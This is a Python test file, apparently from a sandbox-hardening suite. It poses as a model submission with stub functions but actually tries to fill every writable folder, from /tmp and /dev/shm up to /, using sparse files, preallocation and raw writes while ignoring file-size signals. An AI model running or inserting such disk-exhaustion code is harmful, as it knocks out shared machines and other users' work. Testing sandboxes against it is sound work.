# Fills every folder that it can write to, with blocks, with reserved space and with sparse files.
# proof: folders that took files: [1-9]\d*, MiB written: \d+|wrote or opened more files than a submission may
# outcome: failed
# %%
def conv_at(*args, **kwargs):
    return None


conv2d = shift = conv_at
predict_rows = predict_place = 0
# %%
import contextlib  # noqa: E402
import os  # noqa: E402
import signal  # noqa: E402
from pathlib import Path  # noqa: E402

signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
written, took = 0, set()
for folder in (os.getcwd(), "/tmp", "/dev/shm", "/var/tmp", "/run", "/dev", "/home", "/"):
    for number in range(8):
        with contextlib.suppress(OSError), Path(folder, f"full-{number}").open("wb", buffering=0) as file:
            took.add(folder)
            with contextlib.suppress(OSError):
                os.truncate(file.fileno(), 1 << 40)
            with contextlib.suppress(OSError):
                os.posix_fallocate(file.fileno(), 0, 60 << 20)
                written += 60
            for _ in range(60):
                written += file.write(bytes(1 << 20)) >> 20
print(f"folders that took files: {len(took)}, MiB written: {written}")
